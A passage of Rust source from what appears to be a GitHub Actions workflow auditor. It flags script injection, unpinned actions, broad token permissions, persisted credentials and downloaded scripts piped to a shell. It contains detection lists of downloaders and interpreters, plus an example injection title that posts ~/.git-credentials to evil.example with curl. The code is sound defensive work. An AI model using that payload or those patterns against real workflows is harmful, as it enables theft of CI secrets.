    /// `uses: actions/checkout@<sha> # v4.2.2`. Looks at most a few hundred
    /// bytes ahead, so a giant line costs no more than a short one.
    fn trailing_comment(&self, at: Pos, value: &str) -> Option<String> {
        if at.line == 0 {
            return None;
        }
        let start = self.offset(at);
        let line_end = self.line_range(at.line).end.max(start);
        let end = floor_boundary(self.text, line_end.min(start + value.len() + 512));
        let rest = self.text.get(start..end)?;
        let after = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let close = rest[1..].find(q)? + 2;
                rest.get(close..)?
            }
            _ => rest.get(value.len()..)?,
        };
        let comment = after.trim_start().strip_prefix('#')?.trim();
        (!comment.is_empty()).then(|| comment.to_string())
    }

    /// Where each of `ranges` (byte ranges of `value`, in order) is in the
    /// source, for a scalar whose value starts at `at`. Finds the text of
    /// each range after the previous one, so a `run: |` block gets real
    /// lines and columns; when the text is not there verbatim (escapes in
    /// a quoted string, a folded line), falls back to the value's line
    /// plus the newlines before the range.
    fn locate_all(&self, at: Pos, value: &str, ranges: &[Range<usize>]) -> Vec<Pos> {
        let mut out = Vec::with_capacity(ranges.len());
        if at.line == 0 {
            out.resize(ranges.len(), at);
            return out;
        }
        let start = self.offset(at);
        // A block scalar's source is its value plus indentation; allow
        // generous indentation per line.
        let newlines = value.bytes().filter(|b| *b == b'\n').count();
        let limit = floor_boundary(
            self.text,
            start
                .saturating_add(value.len())
                .saturating_add((newlines + 1) * 256),
        );
        let mut cursor = start;
        let mut missed = false;
        // Newlines in `value` before `counted`, for the fallback.
        let (mut newlines_before, mut counted) = (0usize, 0usize);
        for r in ranges {
            let needle = value.get(r.clone()).unwrap_or("");
            // After one miss, stop searching: each search may scan the
            // whole window, and misses would make that quadratic.
            let found = if needle.is_empty() || cursor >= limit || missed {
                None
            } else {
                self.text[cursor..limit].find(needle).map(|i| cursor + i)
            };
            missed |= found.is_none();
            match found {
                Some(off) => {
                    out.push(self.pos(off));
                    cursor = off + needle.len();
                }
                None => {
                    let upto = r.start.clamp(counted, value.len());
                    newlines_before += value.as_bytes()[counted..upto]
                        .iter()
                        .filter(|b| **b == b'\n')
                        .count();
                    counted = upto;
                    out.push(if newlines_before == 0 {
                        at
                    } else {
                        lc(at.line.saturating_add(u32_of(newlines_before)), 0)
                    });
                }
            }
        }
        out
    }
}

fn floor_boundary(s: &str, i: usize) -> usize {
    let mut i = i.min(s.len());
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

// ---------------------------------------------------------------------------
// Expressions and contexts
// ---------------------------------------------------------------------------

/// Byte ranges of every `${{ … }}` in `s`, delimiters included.
fn expressions(s: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(p) = s[i..].find("${{") {
        let start = i + p;
        let end = s[start + 3..]
            .find("}}")
            .map_or(s.len(), |q| start + 3 + q + 2);
        out.push(start..end);
        i = end;
    }
    out
}

/// The context paths an expression reads, lowercased, with index access
/// written as properties: `github.event.commits[0].message` becomes
/// `github.event.commits.*.message`, `github['head_ref']` becomes
/// `github.head_ref`.
fn context_paths(expr: &str) -> Vec<String> {
    let inner = expr
        .strip_prefix("${{")
        .map(|e| e.strip_suffix("}}").unwrap_or(e))
        .unwrap_or(expr)
        .to_ascii_lowercase();
    // Rewrite index access first.
    let mut norm = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '[' {
            let mut content = String::new();
            let mut depth = 1;
            for d in chars.by_ref() {
                match d {
                    '[' => depth += 1,
                    ']' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                content.push(d);
            }
            let t = content.trim();
            let quoted = (t.starts_with('\'') && t.ends_with('\'') && t.len() >= 2)
                || (t.starts_with('"') && t.ends_with('"') && t.len() >= 2);
            norm.push('.');
            if quoted {
                norm.push_str(&t[1..t.len() - 1]);
            } else {
                norm.push('*');
            }
        } else {
            norm.push(c);
        }
    }
    let is_path = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '*');
    let mut out = Vec::new();
    let bytes: Vec<char> = norm.chars().collect();
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        let starts = (c.is_ascii_alphabetic() || c == '_')
            && (i == 0 || !(is_path(bytes[i - 1]) || bytes[i - 1] == '\'' || bytes[i - 1] == '"'));
        if starts {
            let mut j = i;
            while j < bytes.len() && is_path(bytes[j]) {
                j += 1;
            }
            let path: String = bytes[i..j].iter().collect();
            let path = path.trim_end_matches('.').to_string();
            if path.contains('.') {
                out.push(path);
            }
            i = j;
        } else {
            i += 1;
        }
    }
    out
}

/// Event fields anyone who can open an issue or pull request, comment, or
/// push a branch controls: GitHub's list ("Script injections"), actionlint's
/// untrusted inputs, plus discussions and `workflow_run` heads. `*` matches
/// any one path segment (an array index).
const UNTRUSTED_CONTEXTS: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.head_ref",
];

/// Field names that GitHub says "typically" hold untrusted text when they
/// end a `github.event` path (body, title, message, label, branch names,
/// page names, e-mail addresses).
const UNTRUSTED_SUFFIXES: &[&str] = &[
    "body",
    "title",
    "message",
    "label",
    "head_ref",
    "head_branch",
    "default_branch",
    "page_name",
    "email",
];

fn segments_match(pattern: &[&str], path: &[&str]) -> bool {
    pattern.len() == path.len()
        && pattern
            .iter()
            .zip(path)
            .all(|(p, s)| *p == "*" || *s == "*" || p == s)
}

/// Whether a context path is attacker-controlled. `whole_objects` also
/// counts a path that contains such fields (`toJSON(github.event.issue)`).
fn is_untrusted(path: &str, whole_objects: bool) -> bool {
    let segs: Vec<&str> = path.split('.').collect();
    for pattern in UNTRUSTED_CONTEXTS {
        let p: Vec<&str> = pattern.split('.').collect();
        // The field itself, or something inside it (`.length` is harmless
        // but rare enough to flag).
        if segs.len() >= p.len() && segments_match(&p, &segs[..p.len()]) {
            return true;
        }
        if whole_objects && segs.len() < p.len() && segments_match(&p[..segs.len()], &segs) {
            return true;
        }
    }
    if segs.len() >= 3 && segs[0] == "github" && segs[1] == "event" {
        let last = segs[segs.len() - 1];
        if UNTRUSTED_SUFFIXES.contains(&last) {
            return true;
        }
        // Commit author and committer names.
        if last == "name" && matches!(segs[segs.len() - 2], "author" | "committer") {
            return true;
        }
    }
    false
}

/// The attacker-controlled contexts an expression reads.
fn untrusted_in(expr: &str) -> Vec<String> {
    // A function call may serialise a whole object (`toJSON(github.event)`).
    let calls = expr.contains('(');
    let mut out: Vec<String> = context_paths(expr)
        .into_iter()
        .filter(|p| p.starts_with("github.") && is_untrusted(p, calls))
        .collect();
    out.dedup();
    out
}

// ---------------------------------------------------------------------------
// Script text
// ---------------------------------------------------------------------------

/// Collapses whitespace runs to one space and joins `\` line continuations,
/// so `cargo test \` + newline + `--locked` matches `cargo test --locked`.
pub fn normalise_script(s: &str) -> String {
    let joined = s.replace("\\\r\n", " ").replace("\\\n", " ");
    joined.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The script's logical lines (continuations joined, whitespace collapsed),
/// each with the byte range of its first physical line in `script`.
fn logical_lines(script: &str) -> Vec<(String, Range<usize>)> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut first: Option<Range<usize>> = None;
    let mut offset = 0;
    for raw in script.split_inclusive('\n') {
        let line = raw.trim_end_matches(['\n', '\r']);
        let trimmed_start = line.len() - line.trim_start().len();
        if first.is_none() {
            first = Some(offset + trimmed_start..offset + line.len());
        }
        let (body, continues) = match line.strip_suffix('\\') {
            Some(b) => (b, true),
            None => (line, false),
        };
        current.push(' ');
        current.push_str(body);
        if !continues {
            let text = current.split_whitespace().collect::<Vec<_>>().join(" ");
            if let Some(r) = first.take()
                && !text.is_empty()
            {
                out.push((text, r));
            }
            current.clear();
        }
        offset += raw.len();
    }
    if let Some(r) = first.take() {
        let text = current.split_whitespace().collect::<Vec<_>>().join(" ");
        if !text.is_empty() {
            out.push((text, r));
        }
    }
    out
}

/// `text` contains `needle` starting at a word boundary.
fn has_word_prefix(text: &str, needle: &str) -> bool {
    let mut from = 0;
    while let Some(i) = text[from..].find(needle) {
        let at = from + i;
        let ok = at == 0
            || !text[..at]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
        if ok {
            return true;
        }
        from = at + needle.len();
    }
    false
}

/// Words of a shell command with surrounding punctuation removed.
fn words(segment: &str) -> Vec<String> {
    segment
        .split_whitespace()
        .map(|w| {
            w.trim_matches(|c: char| {
                matches!(c, '(' | ')' | '{' | '}' | ';' | '"' | '\'' | '`' | '&')
            })
            .to_string()
        })
        .filter(|w| !w.is_empty())
        .collect()
}

fn basename(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "pwsh",
    "powershell",
    "iex",
    "invoke-expression",
    "source",
];

fn is_downloader(w: &str) -> bool {
    DOWNLOADERS.contains(&basename(w))
}

fn is_interpreter(w: &str) -> bool {
    INTERPRETERS.contains(&basename(w))
}

/// The command word of a pipeline segment, skipping `sudo` and its flags,
/// `env` and `VAR=value` assignments.
fn command_word(segment: &str) -> Option<String> {
    let mut skipping_flags = false;
    for w in words(segment) {
        if w == "sudo" || w == "env" || w == "exec" {
            skipping_flags = true;
            continue;
        }
        if skipping_flags && w.starts_with('-') {
            continue;
        }
        if w.contains('=') && !w.starts_with('-') {
            continue;
        }
        return Some(w);
    }
    None
}

/// Whether one logical shell line runs downloaded code without checking it.
fn runs_download(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    // PowerShell: iex (iwr …), irm … | iex, (New-Object Net.WebClient).DownloadString(…)
    let ws = words(&l);
    let ps_exec = ws.iter().any(|w| {
        w == "iex"
            || w == "invoke-expression"
            || w.starts_with("iex(")
            || w.starts_with("invoke-expression(")
    }) || l.contains("iex(")
        || l.contains("invoke-expression(");
    let ps_fetch = [
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "downloadstring",
        "net.webclient",
        "curl",
        "wget",
    ]
    .iter()
    .any(|d| has_word_prefix(&l, d));
    if ps_exec && ps_fetch {
        return true;
    }
    // bash <(curl …), source <(curl …)
    let mut from = 0;
    while let Some(i) = l[from..].find("<(") {
        let at = from + i;
        let fetches = first_word(&l[at + 2..]).is_some_and(|w| is_downloader(&w));
        let before = tail_words(&l[..at]);
        let runs = before.last().is_some_and(|w| is_interpreter(w) || w == ".");
        if fetches && runs {
            return true;
        }
        from = at + 2;
    }
    // sh -c "$(curl …)", eval "$(wget -qO- …)"
    for open in ["$(", "`"] {
        let mut from = 0;
        while let Some(i) = l[from..].find(open) {
            let at = from + i;
            if first_word(&l[at + open.len()..]).is_some_and(|w| is_downloader(&w)) {
                let before = tail_words(&l[..at]);
                let n = before.len();
                let shell_c = n >= 2 && before[n - 1] == "-c" && is_interpreter(&before[n - 2]);
                let eval = before.iter().any(|w| w == "eval");
                if shell_c || eval {
                    return true;
                }
            }
            from = at + open.len();
        }
    }
    // curl … | sh, wget -qO- … | sudo bash -s --
    let mut downloaded = false;
    for seg in split_pipes(&l) {
        let Some(word) = command_word(seg) else {
            // The end of a pipeline (or an empty command).
            downloaded = false;
            continue;
        };
        if downloaded && is_interpreter(&word) {
            return true;
        }
        if is_downloader(&word) {
            downloaded = true;
        }
    }
    false
}

/// The first word of `s`, punctuation removed.
fn first_word(s: &str) -> Option<String> {
    s.split_whitespace()
        .next()
        .map(|w| words(w).concat())
        .filter(|w| !w.is_empty())
}

/// The words in the last 128 bytes of `s`: enough context for `sh -c` or
/// `eval` before a substitution without rescanning a long line each time.
fn tail_words(s: &str) -> Vec<String> {
    let mut start = s.len().saturating_sub(128);
    while !s.is_char_boundary(start) {
        start += 1;
    }
    words(&s[start..])
}

/// Splits a command line at `|` but not at `||`; `;` and `&&` end a pipeline.
fn split_pipes(line: &str) -> Vec<&str> {
    // `;` and `&&` end a pipeline; an empty entry marks each end.
    let mut out = Vec::new();
    for command in line.split([';']).flat_map(|c| c.split("&&")) {
        let bytes = command.as_bytes();
        let mut start = 0;
        let mut i = 0;
        while i < bytes.len() {
            if bytes[i] == b'|' {
                if bytes.get(i + 1) == Some(&b'|') {
                    // `||` ends the pipeline too.
                    out.push(&command[start..i]);
                    out.push("");
                    i += 2;
                    start = i;
                    continue;
                }
                out.push(&command[start..i]);
                start = i + 1;
            }
            i += 1;
        }
        out.push(&command[start..]);
        out.push("");
    }
    out
}

// ---------------------------------------------------------------------------
// What each rule tells the learner
// ---------------------------------------------------------------------------

const WHY_SECRETS_INHERIT: &str = "The called workflow, and every action it runs, gets all of the repository's secrets instead of the few it needs; if it is compromised or changed, all of them leak.";
const WHY_UNPINNED: &str = "A tag or branch can be moved to new code, and every workflow that uses it then runs that code with its token and secrets: in March 2025 the tags of tj-actions/changed-files were moved to a commit that printed CI secrets into public build logs (CVE-2025-30066). A full commit SHA cannot be moved.";
const WHY_MISSING_PERMISSIONS: &str = "On older repositories and many organisations the default GITHUB_TOKEN can write to everything; a single compromised step (a moved action tag, a malicious dependency, an injected script) can then push code, create releases or rewrite issues.";
const FIX_MISSING_PERMISSIONS: &str = "Add `permissions:` with `contents: read` (or `{}`) at the top level, and grant write scopes only on the jobs that need them.";
const WHY_WRITE_ALL_TOP: &str = "Every step of every job, third-party actions included, can then push code, publish packages, mint OIDC tokens and approve pull requests with that token.";
const FIX_WRITE_ALL_TOP: &str = "Use `permissions: contents: read` at the top level and add only the write scopes a job needs on that job, e.g. `contents: write` on the release job.";
const WHY_WRITE_ALL_JOB: &str = "Any compromised step in the job can push code, publish packages, mint OIDC tokens and approve pull requests.";
const FIX_DANGEROUS_TRIGGER: &str = "Build and test pull-request code in a separate workflow on `pull_request` (no secrets, read-only token); keep the privileged workflow to steps that never check out or run the PR's code, e.g. posting a comment from an uploaded result.";
const FIX_DANGEROUS_REUSABLE: &str = "Run pull-request code only from a `pull_request` workflow; never pass the PR head to privileged reusable workflows.";
const WHY_RISKY_TRIGGER: &str = "It is safe only while no step checks out, builds or runs the pull request's code and no event text reaches a script; one later edit can turn it into a pwn request.";
const WHY_SECRETS_TO_UNTRUSTED: &str = "Build scripts, tests and install hooks from the pull request run in the same job and can read the secret from the environment, files or memory and send it to the attacker.";
const WHY_TEMPLATE_INJECTION: &str = "GitHub substitutes the text into the script before it runs, so a title such as `x\"; curl -d @$HOME/.git-credentials evil.example; #` becomes commands that run with the job's token and secrets.";
const WHY_PERSIST_TRUE: &str = "Every later step of the job can read the token there, and uploading the checkout as an artifact publishes it.";
const FIX_PERSIST_TRUE: &str = "Keep this only in a job that pushes with git, and make sure no later step uploads the working directory.";
const WHY_PERSISTED_CREDENTIALS: &str = "actions/checkout stores the token in `.git/config` by default: every later step, third-party actions and build scripts included, can read it, and uploading the working directory as an artifact publishes it (\"ArtiPACKED\").";
const FIX_PERSISTED_CREDENTIALS: &str = "Add `with: persist-credentials: false` to the checkout step; if a later step must push with git, set `persist-credentials: true` explicitly in that job only.";
const WHY_REMOTE_SCRIPT: &str = "Whatever the server returns at that moment runs with the job's token and secrets; if the server, the domain or the script's repository is compromised, so is the build, and nothing pins or checks the script.";
const FIX_REMOTE_SCRIPT: &str = "Download to a file, check it against a SHA-256 you recorded (`echo \"<sha256>  install.sh\" | sha256sum --check`), then run it; or use a pinned action or a package-manager install instead.";
const WHY_LOST_TRIGGER: &str = "Hardening must keep the workflow doing its job; removing the event it runs on removes the risk and the work with it.";
const WHY_LOST_JOB: &str =
    "Deleting a job removes its risk and its work; the workflow must still do what it did.";
const WHY_LOST_RUN: &str =
    "Deleting a step removes its risk and its work; the job must still do what it did.";
const WHY_WRONG_PIN: &str = "A SHA pin is only as good as the SHA: another commit can be an older, vulnerable release or a commit that exists only in a fork (an impostor commit).";
const WHY_LOST_USES: &str =
    "Deleting or swapping a step removes its work; the job must still do what it did.";

// ---------------------------------------------------------------------------
// Audit
// ---------------------------------------------------------------------------

/// Runs every rule on a workflow; findings sorted by line.
pub fn audit(text: &str) -> Result<Vec<Finding>, InputError> {
    let parsed = parse_inner(text)?;
    let src = &parsed.src;
    let mut out = Vec::new();
    unpinned_uses(&parsed.workflow, &mut out);
    permissions_rules(&parsed.workflow, &mut out);
    trigger_rules(&parsed, src, &mut out);
    template_injection(&parsed, src, &mut out);
    persisted_credentials(&parsed.workflow, &mut out);
    remote_script(&parsed, src, &mut out);
    secrets_inherit(&parsed.workflow, &mut out);
    sort_findings(&mut out);
    Ok(out)
}

fn finding(rule: &str, severity: Severity, pos: Pos, message: String) -> Finding {
    let f = Finding::new(rule, severity, pos.line, message);
    if pos.column > 0 {
        f.column(pos.column)
    } else {
        f
    }
}

// ----- unpinned-uses -------------------------------------------------------

fn unpinned_uses(wf: &Workflow, out: &mut Vec<Finding>) {
    let all = wf.jobs.iter().flat_map(|j| {
        j.uses
            .iter()
            .map(move |u| (u, format!("job `{}`", j.id)))
            .chain(j.steps.iter().filter_map(move |s| {
                s.uses
                    .as_ref()
                    .map(|u| (u, format!("{} of job `{}`", s.label(), j.id)))
            }))
    });
    for (u, _) in all {
        if u.is_pinned() {
            continue;
        }
        let pos = lc(u.line, u.column);
        let (message, fix) = if u.is_docker() {
            let message = if u.reference.is_empty() {
                format!(
                    "`{}` has no tag or digest: every run pulls whatever `latest` is at that moment",
                    u.raw
                )
            } else {
                format!(
                    "`{}` is pinned to the image tag `{}`, not to a digest; tags can be re-pushed",
                    u.raw, u.reference
                )
            };
            let fix = format!(
                "Pin the image by digest and keep the tag in a comment: `uses: {}@sha256:<64-hex digest> # {}` (`docker buildx imagetools inspect` shows the digest).",
                u.action,
                if u.reference.is_empty() {
                    "latest"
                } else {
                    &u.reference
                }
            );
            (message, fix)
        } else {
            let version = u
                .comment
                .clone()
                .filter(|c| !c.is_empty())
                .unwrap_or_else(|| {
                    if u.reference.is_empty() {
                        "vX.Y.Z".to_string()
                    } else {
                        u.reference.clone()
                    }
                });
            let message = if u.reference.is_empty() {
                format!(
                    "`{}` has no `@ref` at all: every run takes whatever is on its default branch",
                    u.raw
                )
            } else if u.reference.bytes().all(|b| b.is_ascii_hexdigit()) && u.reference.len() >= 7 {
                format!(
                    "`{}` uses the short commit SHA `{}`; only a full 40-character SHA is unambiguous",
                    u.raw, u.reference
                )
            } else {
                format!(
                    "`{}` is not pinned to a commit: `{}` is a tag or branch, and its owner can move it to other code",
                    u.raw, u.reference
                )
            };
            let fix = format!(
                "Pin to the full commit SHA and keep the version in a comment, e.g. `uses: {}@<40-hex commit SHA of {version}> # {version}` (like `uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`); let Dependabot or Renovate update the pins.",
                u.action
            );
            (message, fix)
        };
        out.push(
            finding("workflow/unpinned-uses", Severity::Error, pos, message)
                .why(WHY_UNPINNED)
                .fix(fix),
        );
    }
}

// ----- permissions -----------------------------------------------------------

/// What a write scope lets a stolen token do, for messages.
fn scope_power(scope: &str) -> &'static str {
    match scope {
        "contents" => "push commits and tags to the repository and create releases",
        "packages" => "publish or overwrite packages and container images",
        "id-token" => {
            "mint OIDC tokens that cloud providers and registries accept as this repository"
        }
        "pull-requests" => "comment on, edit and approve pull requests",
        "issues" => "create, edit and close issues",
        "attestations" => "sign attestations (provenance) for artifacts",
        "pages" => "deploy the GitHub Pages site",
        "statuses" => "set commit statuses, making failed checks look green",
        "checks" => "create and edit check runs, making failed checks look green",
        "actions" => "cancel, re-run and dispatch workflows and delete caches",
        "deployments" => "create deployments",
        "security-events" => "dismiss code-scanning alerts",
        "discussions" => "create and edit discussions",
        "repository-projects" => "edit projects",
        _ => "write to that part of the repository",
    }
}

/// What would show that a job needs a write scope, for messages.
fn scope_evidence(scope: &str) -> &'static str {
    match scope {
        "contents" => {
            "`git push`, `gh release`, or a release action such as softprops/action-gh-release"
        }
        "packages" => "`docker push`, docker/build-push-action, or another publish step",
        "id-token" => {
            "an OIDC login or keyless signing step such as aws-actions/configure-aws-credentials, google-github-actions/auth, pypa/gh-action-pypi-publish, actions/attest-build-provenance or `cosign sign`"
        }
        "pull-requests" => {
            "`gh pr comment`, a pull-request comment action, or a github-script call to the pulls or issues API"
        }
        "issues" => "`gh issue`, or a github-script call to the issues API",
        "attestations" => "actions/attest-build-provenance or another actions/attest* step",
        "pages" => "actions/deploy-pages",
        "statuses" => "a commit-status API call or status action",
        "checks" => "a check-run API call or a test-report action",
        "security-events" => "github/codeql-action (for example upload-sarif)",
        "actions" => {
            "`gh workflow run`, `gh run cancel`, or a github-script call to the actions API"
        }
        "deployments" => "a deployment API call or deployment action",
        "discussions" => "a discussion API call",
        "repository-projects" => "`gh project` or a project action",
        _ => "a step known to need it",
    }
}

/// Actions known to need a write scope, by scope; matched on `owner/repo`
/// and its sub-paths.
fn actions_needing(scope: &str) -> &'static [&'static str] {
    match scope {
        "contents" => &[
            "softprops/action-gh-release",
            "ncipollo/release-action",
            "actions/create-release",
            "actions/upload-release-asset",
            "svenstaro/upload-release-action",
            "stefanzweifel/git-auto-commit-action",
            "endbug/add-and-commit",
            "peter-evans/create-pull-request",
            "googleapis/release-please-action",
            "google-github-actions/release-please-action",
            "changesets/action",
            "ad-m/github-push-action",
            "jamesives/github-pages-deploy-action",
            "peaceiris/actions-gh-pages",
            "taiki-e/upload-rust-binary-action",
            "taiki-e/create-gh-release-action",
            "goreleaser/goreleaser-action",
            "cycjimmy/semantic-release-action",
            "mathieudutour/github-tag-action",
            "anothrnick/github-tag-action",
            "rickstaa/action-create-tag",
            "release-drafter/release-drafter",
        ],
        "packages" => &[
            "docker/build-push-action",
            "docker/login-action",
            "docker/bake-action",
            "redhat-actions/push-to-registry",
            "actions/delete-package-versions",
            "goreleaser/goreleaser-action",
        ],
        "id-token" => &[
            "actions/attest-build-provenance",
            "actions/attest-sbom",
            "actions/attest",
            "sigstore/gh-action-sigstore-python",
            "aws-actions/configure-aws-credentials",
            "google-github-actions/auth",
            "azure/login",
            "pypa/gh-action-pypi-publish",
            "rubygems/release-gem",
            "rubygems/configure-rubygems-credentials",
            "hashicorp/vault-action",
            "actions/deploy-pages",
            "rust-lang/crates-io-auth-action",
            "ossf/scorecard-action",
            "slsa-framework/slsa-github-generator",
            "octo-sts/action",
        ],
        "pull-requests" => &[
            "marocchino/sticky-pull-request-comment",
            "thollander/actions-comment-pull-request",
            "mshick/add-pr-comment",
            "peter-evans/create-or-update-comment",
            "peter-evans/create-pull-request",
            "peter-evans/enable-pull-request-automerge",
            "actions/labeler",
            "actions-ecosystem/action-add-labels",
            "actions/stale",
            "actions/first-interaction",
            "actions/dependency-review-action",
            "googleapis/release-please-action",
            "google-github-actions/release-please-action",
            "changesets/action",
            "reviewdog",
            "enricomi/publish-unit-test-result-action",
            "hmarr/auto-approve-action",
            "pascalgn/automerge-action",
            "release-drafter/release-drafter",
        ],
        "issues" => &[
            "actions/stale",
            "actions/first-interaction",
            "peter-evans/create-or-update-comment",
            "peter-evans/create-issue-from-file",
            "jasonetco/create-an-issue",
            "dacbd/create-issue-action",
            "actions-ecosystem/action-add-labels",
            "micnncim/action-label-syncer",
            "crazy-max/ghaction-github-labeler",
            "googleapis/release-please-action",
            "google-github-actions/release-please-action",
        ],
        "attestations" => &[
            "actions/attest-build-provenance",
            "actions/attest-sbom",
            "actions/attest",
        ],
        "pages" => &["actions/deploy-pages"],
        "statuses" => &[
            "sibz/github-status-action",
            "ouzi-dev/commit-status-updater",
            "myrotvorets/set-commit-status-action",
            "github/super-linter",
            "super-linter/super-linter",
        ],
        "checks" => &[
            "dorny/test-reporter",
            "enricomi/publish-unit-test-result-action",
            "mikepenz/action-junit-report",
            "louisbrunner/checks-action",
            "actions-rs/clippy-check",
        ],
        "security-events" => &["github/codeql-action", "ossf/scorecard-action"],
        "actions" => &["geekyeggo/delete-artifact"],
        "deployments" => &[
            "chrnorm/deployment-action",
            "chrnorm/deployment-status",
            "bobheadxi/deployments",
        ],
        "discussions" => &["abirismyname/create-discussion"],
        "repository-projects" => &["actions/add-to-project"],
        _ => &[],
    }
}

/// Shell commands (lowercase, whitespace-normalised) known to need a
/// write scope.
fn commands_needing(scope: &str) -> &'static [&'static str] {
    match scope {
        "contents" => &[
            "git push",
            "gh release create",
            "gh release upload",
            "gh release edit",
            "gh release delete",
            "gh pr merge",
            "semantic-release",
            "cargo release",
            "release-it",
            "goreleaser",
        ],
        "packages" => &[
            "docker push",
            "docker image push",
            "docker manifest push",
            "podman push",
            "buildah push",
            "npm publish",
            "yarn publish",
            "yarn npm publish",
            "pnpm publish",
            "nuget push",
            "mvn deploy",
            "gradle publish",
            "gradlew publish",
            "ko build",
            "ko publish",
            "crane push",
            "crane copy",
            "oras push",
            "helm push",
            "skopeo copy",
            "cosign sign",
            "cosign attest",
            "goreleaser",
        ],
        "id-token" => &[
            "cosign sign",
            "cosign attest",
            "--provenance",
            "npm_config_provenance",
            "actions_id_token_request",
            "sigstore sign",
            "python -m sigstore",
        ],
        "pull-requests" => &[
            "gh pr comment",
            "gh pr review",
            "gh pr edit",
            "gh pr create",
            "gh pr merge",
            "gh pr close",
            "gh pr reopen",
            "gh pr ready",
            "gh pr lock",
            "semantic-release",
        ],
        "issues" => &[
            "gh issue create",
            "gh issue comment",
            "gh issue edit",
            "gh issue close",
            "gh issue reopen",
            "gh issue delete",
            "gh issue lock",
            "gh issue transfer",
            "gh issue pin",
            "gh label ",
            "semantic-release",
        ],
        "actions" => &[
            "gh workflow run",
            "gh workflow enable",
            "gh workflow disable",
            "gh run cancel",
            "gh run rerun",
            "gh run delete",
            "gh cache delete",
        ],
        "repository-projects" => &["gh project"],
        _ => &[],
    }
}

/// github-script calls (lowercase) known to need a write scope.
fn script_calls_needing(scope: &str) -> &'static [&'static str] {
    match scope {
        "contents" => &[
            "repos.createrelease",
            "repos.updaterelease",
            "repos.deleterelease",
            "repos.uploadreleaseasset",
            "repos.createorupdatefilecontents",
            "repos.deletefile",
            "repos.merge",
            "repos.createdispatchevent",
            "git.create",
            "git.update",
            "git.delete",
            "pulls.merge",
        ],
        "pull-requests" => &[
            "pulls.create",
            "pulls.update",
            "pulls.merge",
            "pulls.requestreviewers",
            "pulls.submitreview",
            "pulls.dismissreview",
            "issues.createcomment",
            "issues.updatecomment",
            "issues.deletecomment",
            "issues.addlabels",
            "issues.removelabel",
            "issues.setlabels",
            "issues.update",
            "reactions.create",
        ],
        "issues" => &[
            "issues.create",
            "issues.update",
            "issues.delete",
            "issues.addlabels",
            "issues.removelabel",
            "issues.setlabels",
            "issues.lock",
            "issues.unlock",
            "issues.addassignees",
            "issues.removeassignees",
            "reactions.create",
        ],
        "statuses" => &["repos.createcommitstatus"],
        "checks" => &["checks.create", "checks.update"],
        "actions" => &[
            "actions.createworkflowdispatch",
            "actions.cancelworkflowrun",
            "actions.rerun",
            "actions.delete",
        ],
        "deployments" => &["repos.createdeployment"],
        "discussions" => &[
            "creatediscussion",
            "adddiscussioncomment",
            "updatediscussion",
        ],
        "id-token" => &["getidtoken"],
        _ => &[],
    }
}

/// REST paths (in `gh api`, `curl https://api.github.com/...`, or
/// github-script `github.request`) with a write method, by scope.
fn api_paths_needing(scope: &str) -> &'static [&'static str] {
    match scope {
        "contents" => &["/releases", "/git/", "/contents/", "/merges", "/dispatches"],
        "statuses" => &["/statuses/"],
        "checks" => &["/check-runs", "/check-suites"],
        "issues" => &["/issues", "/labels"],
        "pull-requests" => &["/pulls", "/issues/"],
        "deployments" => &["/deployments"],
        "actions" => &["/actions/"],
        "pages" => &["/pages"],
        "security-events" => &["/code-scanning/"],
        "discussions" | "repository-projects" => &["graphql"],
        _ => &[],
    }
}

/// A GitHub API call that writes: `gh api` with a method or fields (fields
/// make it a POST), `curl` to api.github.com with a method or data, or
/// github-script's `github.request("POST /...")`.
fn is_api_write(line: &str) -> bool {
    const METHODS: &[&str] = &["-x post", "-x put", "-x patch", "-x delete"];
    let any = |list: &[&str]| list.iter().any(|m| line.contains(m));
    let gh = line.contains("gh api")
        && (any(METHODS) || any(&["--method", "-f ", "--field", "--raw-field", "--input"]));
    let curl =
        line.contains("api.github.com") && (any(METHODS) || any(&["--request", "-d ", "--data"]));
    let script =
        line.contains("github.request(") && any(&["post /", "put /", "patch /", "delete /"]);
    gh || curl || script
}

/// Whether anything in the job evidently needs `scope: write`.
fn job_needs(job: &Job, scope: &str) -> bool {
    let actions = actions_needing(scope);
    let commands = commands_needing(scope);
    let calls = script_calls_needing(scope);
    let paths = api_paths_needing(scope);
    for step in &job.steps {
        if let Some(u) = &step.uses
            && actions.iter().any(|a| {
                u.is_under(a)
                    || (!a.contains('/')
                        && u.action.to_ascii_lowercase().starts_with(&format!("{a}/")))
            })
        {
            return true;
        }
